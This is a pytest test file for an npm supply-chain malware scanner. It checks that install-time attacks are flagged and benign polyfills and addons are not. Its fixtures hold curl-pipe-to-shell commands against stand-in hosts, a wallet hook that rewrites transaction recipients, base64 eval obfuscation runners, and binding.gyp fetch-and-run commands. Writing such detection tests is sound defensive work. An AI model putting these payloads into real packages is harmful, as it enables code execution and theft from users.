"""Holes a red-team review found (issue 11): each technique, however it is written, and the
benign pattern next to it that must stay quiet. Every fixture is inert and written here."""

from __future__ import annotations

import pytest

from chainwatch.model import Level, PackageRef
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import manifest

SCANNER = Scanner(None, workers=1)


def _verdict(files: dict[str, str], **pkg: object) -> tuple[Level, set[str]]:
    files = {"package.json": manifest(name="probe-x", **pkg), **files}
    v = SCANNER.analyze(Loaded(PackageRef("probe-x", "1.0.0"), scan_snippet_files(files)), None)
    return v.level, {f.rule for f in v.findings}


# 1. download-and-execute ---------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "curl -s https://c2.example.invalid/x | sh",
    "wget -qO- http://192.0.2.7/x | bash",
    "powershell -c \"iwr https://c2.example.invalid/a.ps1 | iex\"",
    "curl -s https://c2.example.invalid/x -o /tmp/x.sh && sh /tmp/x.sh",
])
def test_download_and_execute_in_postinstall_is_malicious(command: str) -> None:
    level, rules = _verdict({"index.js": "module.exports = 1\n"},
                            scripts={"postinstall": command})
    assert level is Level.MALICIOUS, rules


def test_download_and_execute_in_a_file_run_at_install_is_malicious() -> None:
    js = "require('child_process').exec('curl -s https://c2.example.invalid/x | sh');\n"
    level, rules = _verdict({"index.js": "module.exports = 1\n", "setup.js": js},
                            scripts={"postinstall": "node setup.js"})
    assert "CW-DROPPER-PIPE-SHELL" in rules
    assert level is Level.MALICIOUS


def test_download_and_execute_in_entry_code_is_at_least_suspicious() -> None:
    js = "require('child_process').exec('curl -s https://c2.example.invalid/x | sh');\n"
    level, rules = _verdict({"index.js": js})
    assert "CW-DROPPER-PIPE-SHELL" in rules
    assert level is not Level.BENIGN


def test_downloading_an_archive_at_install_is_not_download_and_execute() -> None:
    level, rules = _verdict(
        {"index.js": "module.exports = 1\n"},
        scripts={"postinstall": "curl -fsSL https://example.invalid/f.tgz -o f.tgz && tar xzf f.tgz"})
    assert "CW-INSTALL-PIPE-SHELL" not in rules
    assert level is not Level.MALICIOUS


def test_npx_latest_at_install_is_suspicious_a_local_bin_is_not() -> None:
    level, rules = _verdict({"index.js": "module.exports = 1\n"},
                            scripts={"postinstall": "npx -y some-helper-pkg@latest"})
    assert "CW-INSTALL-NPX-REMOTE" in rules and level is not Level.BENIGN
    level, rules = _verdict({"index.js": "module.exports = 1\n"},
                            scripts={"install": "npx node-gyp rebuild"})
    assert "CW-INSTALL-NPX-REMOTE" not in rules


# 2. browser and wallet hooks, however written ----------------------------------------------

HOOKS = {
    "define-fetch": "Object.defineProperty(window, 'fetch', { value: function () { return 1; } });",
    "assign-xhr": "Object.assign(XMLHttpRequest.prototype, { open: function (m, u) { this._u = u; } });",
    "alias-wallet": "var e = window.ethereum; var rq = e.request;\n"
                    "e.request = function (a) { a.params[0].to = '0x' + '5'.repeat(40);\n"
                    "  return rq.call(e, a); };",
    "proto-alias": "var P = XMLHttpRequest.prototype, s = P.send;\n"
                   "P.send = function (b) { return s.call(this, b); };",
    "const-key": "var g = typeof window !== 'undefined' ? window : null, k = 'fetch';\n"
                 "var o = g[k]; g[k] = function () { return o.apply(this, arguments); };",
    "solana-define": "Object.defineProperties(window.solana, { signTransaction: { value: (t) => t } });",
    # a polyfill's guard that is no guard: always true, the present case, or the other branch
    "guard-or-true": "var f = window.fetch;\nif (!window.fetch || 1) {\n"
                     "  window.fetch = function () { return f.apply(this, arguments); };\n}",
    "guard-present": "var f = window.fetch;\nif (typeof window.fetch !== 'undefined') {\n"
                     "  window.fetch = function () { return f.apply(this, arguments); };\n}",
    "guard-else": "var f = window.fetch;\nif (!window.fetch) { polyfill(); } else {\n"
                  "  window.fetch = function () { return f.apply(this, arguments); };\n}",
}
BASE_INDEX = "'use strict';\nmodule.exports = function pad(s, n) { return String(s).padStart(n); };\n"


@pytest.mark.parametrize("name", sorted(HOOKS))
def test_a_hook_however_written_is_high(name: str) -> None:
    level, rules = _verdict({"index.js": HOOKS[name]})
    assert rules & {"CW-BROWSER-FETCH-HOOK", "CW-BROWSER-XHR-HOOK", "CW-BROWSER-WALLET-HOOK"}
    assert level is not Level.BENIGN


@pytest.mark.parametrize("name", sorted(HOOKS))
def test_a_hook_appended_to_the_entry_of_a_patch_release_is_malicious(name: str) -> None:
    base = Loaded(PackageRef("probe-x", "1.0.0"), scan_snippet_files(
        {"package.json": manifest(name="probe-x"), "index.js": BASE_INDEX}))
    target = Loaded(PackageRef("probe-x", "1.0.1"), scan_snippet_files(
        {"package.json": manifest(name="probe-x", version="1.0.1"),
         "index.js": BASE_INDEX + ";(function(){" + HOOKS[name] + "})();\n"}))
    verdict = SCANNER.analyze(target, base)
    assert "CW-DIFF-ENTRY-PAYLOAD" in {f.rule for f in verdict.findings}
    assert verdict.level is Level.MALICIOUS


@pytest.mark.parametrize("source", [
    # whatwg-fetch / isomorphic-fetch style polyfills: only when fetch is missing
    "if (!globalThis.fetch) {\n  globalThis.fetch = function (u, o) { return nodeFetch(u, o); };\n}",
    "if (typeof self.fetch === 'undefined') {\n"
    "  Object.defineProperty(self, 'fetch', { value: (u) => impl(u), writable: true });\n}",
    "globalThis.fetch = globalThis.fetch || require('node-fetch');",
    # undici-style install of a named implementation
    "const { fetch } = require('./lib/fetch');\nglobalThis.fetch = fetch;",
    # a dapp using, not replacing, the provider
    "const p = window.ethereum;\np.on('accountsChanged', update);\n"
    "module.exports = () => p.request({ method: 'eth_requestAccounts' });",
])
def test_polyfills_and_provider_users_are_not_hooks(source: str) -> None:
    level, rules = _verdict({"index.js": source})
    assert not rules & {"CW-BROWSER-FETCH-HOOK", "CW-BROWSER-XHR-HOOK", "CW-BROWSER-WALLET-HOOK"}
    assert level is Level.BENIGN


# 3. folding must not remove the evidence ----------------------------------------------------

def _b64(text: str) -> str:
    import base64
    return base64.b64encode(text.encode()).decode()


CODE = "require(\"child_process\").exec(\"curl -s https://c2.example.invalid/x | sh\")"
RUNNERS = {
    "global-eval": "global['ev'+'al'](atob('{p}'));",
    "globalThis-eval": "globalThis['ev'+'al'](atob('{p}'));",
    "window-eval": "window['eval'](atob('{p}'));",
    "comma-eval": "(0, eval)(atob('{p}'));",
    "call-call": "Function.prototype.call.call(eval, null, atob('{p}'));",
    "new-function": "new Function(atob('{p}'))();",
    "set-timeout": "setTimeout(atob('{p}'), 0);",
    "vm": "require('vm').runInThisContext(Buffer.from('{p}', 'base64').toString());",
    "var-key": "var k = 'ev' + 'al'; var g = globalThis; g[k](atob('{p}'));",
}


@pytest.mark.parametrize("name", sorted(RUNNERS))
def test_running_decoded_code_is_reported_on_the_normalised_view(name: str) -> None:
    level, rules = _verdict({"index.js": RUNNERS[name].format(p=_b64(CODE)) + "\n"})
    assert "CW-EVAL-DECODED-CODE" in rules
    assert level is Level.MALICIOUS


def test_decoding_harmless_constants_is_not_running_hidden_code() -> None:
    # a bundler's helper that decodes a banner and a feature test `new Function('return this')`
    source = ("var banner = atob('" + _b64("built with love (c) 2024") + "');\n"
              "var g = new Function(atob('" + _b64("return this") + "'))();\n"
              "console.log(banner);\n")
    level, rules = _verdict({"index.js": source})
    assert "CW-EVAL-DECODED-CODE" not in rules
    assert level is Level.BENIGN


def test_the_normalised_view_marks_what_it_decoded() -> None:
    from chainwatch.analysis.normalize import normalize
    view = normalize(("eval(atob('" + _b64(CODE) + "'));\n").encode()).text
    assert b"/*decoded*/" in view and b"child_process" in view
    plain = normalize(b"var m = require('child' + '_process');\n").text
    assert b"/*decoded*/" not in plain and b'"child_process"' in plain


@pytest.mark.parametrize("source", [
    "module.constructor._load('child_process').exec('id');",
    "var F = []['constr' + 'uctor']['constr' + 'uctor']; F('return 1')();",
    "var a = 'child', b = 'process'; import(`node:${a}_${b}`).then((m) => m.execSync('id'));",
    "var o = { k: 'child_process' }; require(o.k).exec('id');",
])
def test_indirect_module_and_code_loading_is_a_medium_signal(source: str) -> None:
    _, rules = _verdict({"index.js": source + "\n"})
    assert "CW-EVAL-DYNAMIC-LOAD" in rules


def test_plain_loading_is_no_indirect_loading() -> None:
    _, rules = _verdict({"index.js": "const fs = require('fs');\n"
                         "module.exports = async () => (await import('./lib/plugin.js')).default;\n"})
    assert "CW-EVAL-DYNAMIC-LOAD" not in rules


# 4. entry paths as Node resolves them ------------------------------------------------------

@pytest.mark.parametrize("main", [
    "lib/./index.js", "x/../lib/index.js", "lib//index.js", "./lib/", "lib", "lib/index",
    "lib\\index.js", "lib/index.JS", "lib/index.js?x",
])
def test_main_is_resolved_as_node_resolves_it(main: str) -> None:
    from chainwatch.analysis.diff import entry_points

    files = scan_snippet_files({"package.json": manifest(main=main), "index.js": "1\n",
                                "lib/index.js": "2\n"})
    assert "lib/index.js" in entry_points(files.manifest, [f.path for f in files.files])


def test_an_unresolvable_main_falls_back_to_the_root_index_and_escapes_nothing() -> None:
    from chainwatch.analysis.diff import entry_points

    files = scan_snippet_files({"package.json": manifest(main="../outside/index.js"),
                                "index.js": "1\n", "lib/index.js": "2\n"})
    found = entry_points(files.manifest, [f.path for f in files.files])
    assert "index.js" in found and "lib/index.js" not in found
    assert not any(p.startswith("..") or "outside" in p for p in found)
    # a main that resolves keeps the root index.js out (Node never loads it then)
    files = scan_snippet_files({"package.json": manifest(main="lib/index.js"),
                                "index.js": "1\n", "lib/index.js": "2\n"})
    assert "index.js" not in entry_points(files.manifest, [f.path for f in files.files])


def test_a_payload_in_a_main_written_oddly_is_an_entry_payload() -> None:
    payload = ";(function(){" + HOOKS["alias-wallet"] + "})();\n"
    base = Loaded(PackageRef("probe-x", "1.0.0"), scan_snippet_files(
        {"package.json": manifest(name="probe-x", main="x/../lib//index.js"),
         "lib/index.js": BASE_INDEX}))
    target = Loaded(PackageRef("probe-x", "1.0.1"), scan_snippet_files(
        {"package.json": manifest(name="probe-x", version="1.0.1", main="x/../lib//index.js"),
         "lib/index.js": BASE_INDEX + payload}))
    verdict = SCANNER.analyze(target, base)
    assert "CW-DIFF-ENTRY-PAYLOAD" in {f.rule for f in verdict.findings}


# 5. binding.gyp: the files it names run at install ------------------------------------------

PIPE = "import os\nos.system('curl -s https://c2.example.invalid/x | sh')\n"


@pytest.mark.parametrize("files", [
    {"binding.gyp": "{'targets': [{'target_name': 'x', 'sources': ['<!@pymod_do_main(helper)']}]}",
     "helper.py": PIPE},
    {"binding.gyp": "{'includes': ['build/common.gypi'], 'targets': [{'target_name': 'x'}]}",
     "build/common.gypi": "{'variables': {'v': '<!(curl -s https://c2.example.invalid/x | sh)'}}"},
    {"binding.gyp": "{'targets': [{'target_name': 'x', 'actions': [{'action_name': 'g', "
                    "'inputs': [], 'outputs': ['o'], 'action': ['python3', 'tools/gen.py']}]}]}",
     "tools/gen.py": "import urllib.request\n"
                     "exec(urllib.request.urlopen('https://c2.example.invalid/s').read())\n"},
])
def test_files_binding_gyp_names_are_install_time_code(files: dict[str, str]) -> None:
    level, rules = _verdict({"index.js": "module.exports = 1\n", **files})
    assert "CW-INSTALL-PIPE-SHELL" in rules
    assert level is Level.MALICIOUS


def test_an_ordinary_addon_with_includes_and_a_generator_stays_benign() -> None:
    level, rules = _verdict({
        "index.js": "module.exports = require('./build/Release/x.node');\n",
        "binding.gyp": "{'includes': ['common.gypi'], 'targets': [{'target_name': 'x',"
                       " 'sources': ['src/x.cc'], 'include_dirs': "
                       "[\"<!(node -p \\\"require('node-addon-api').include\\\")\"],"
                       " 'actions': [{'action_name': 'g', 'inputs': ['tools/gen.py'],"
                       " 'outputs': ['src/gen.h'], 'action': ['python3', 'tools/gen.py']}]}]}",
        "common.gypi": "{'variables': {'openssl_fips': ''}, 'target_defaults': "
                       "{'cflags': ['-O2'], 'defines': ['NAPI_VERSION=8']}}",
        "tools/gen.py": "import sys\nwith open(sys.argv[1] if len(sys.argv) > 1 else 'src/gen.h', 'w')"
                        " as f:\n    f.write('#define GEN 1\\n')\n",
    })
    assert "CW-INSTALL-PIPE-SHELL" not in rules
    assert level is not Level.MALICIOUS


@pytest.mark.parametrize("target", ["./src/gyp-paths", "../x/src/gyp-paths", "/tmp/x",
                                    "nan/../../src/gyp-paths"])
def test_a_gyp_include_query_that_requires_a_path_is_not_routine(target: str) -> None:
    from chainwatch.analysis.gyp import parse_gyp

    gyp = ("{'targets': [{'include_dirs': [\"<!(node -p \\\"require('" + target
           + "').include\\\")\"]}]}")
    (command,) = parse_gyp(gyp.encode())
    assert not command.routine
    routine = gyp.replace(target, "node-addon-api")
    assert all(c.routine for c in parse_gyp(routine.encode()))


def test_a_gyp_include_query_that_requires_a_package_file_marks_it_install_time() -> None:
    """A require('./src/gyp-paths') in binding.gyp runs that file at install: it is read as
    install-time code and the command is reported (a blind spot found by a red team)."""
    level, rules = _verdict({
        "index.js": "module.exports = require('./build/Release/addon.node');\n",
        "binding.gyp": "{'targets': [{'target_name': 'addon', 'sources': ['src/addon.cc'],"
                       " 'include_dirs': [\"<!(node -p \\\"require('./src/gyp-paths').include\\\")\"]}]}",
        "src/gyp-paths.js": "const path = require('path');\n"
                            "require('child_process').execSync('curl -s http://example.invalid/i | sh');\n"
                            "module.exports = { include: path.join(__dirname) };\n",
    })
    assert "CW-INSTALL-GYP-COMMAND" in rules
    assert level is Level.MALICIOUS


# 6. a phantom dependency is not cleared by a comment ------------------------------------------

def test_a_dependency_named_only_in_a_comment_is_phantom() -> None:
    from chainwatch.analysis.release_signals import unused_dependencies

    files = scan_snippet_files({
        "package.json": manifest(),
        "index.js": "// uses helper-x\n/* and plain-crypto-y, see docs */\n"
                    "module.exports = require('used-dep');\n",
        "types.d.ts": "/// <reference types=\"typed-only\" />\nexport {};\n",
    })
    added = {"helper-x": "^1", "plain-crypto-y": "^4", "used-dep": "^1", "typed-only": "^1"}
    assert unused_dependencies(added, files) == ["helper-x", "plain-crypto-y"]


def test_a_dependency_created_after_the_release_is_never_a_negative_age() -> None:
    from chainwatch.analysis.metadata import young_dependencies

    found = young_dependencies({"helper-x": "^1"}, {"helper-x": "2025-09-10T00:00:00Z"},
                               "2025-09-07T00:00:00Z")
    assert len(found) == 1
    assert "-" not in found[0].message.split("created", 1)[1].split("days")[0]
    assert "3 days after" in found[0].message
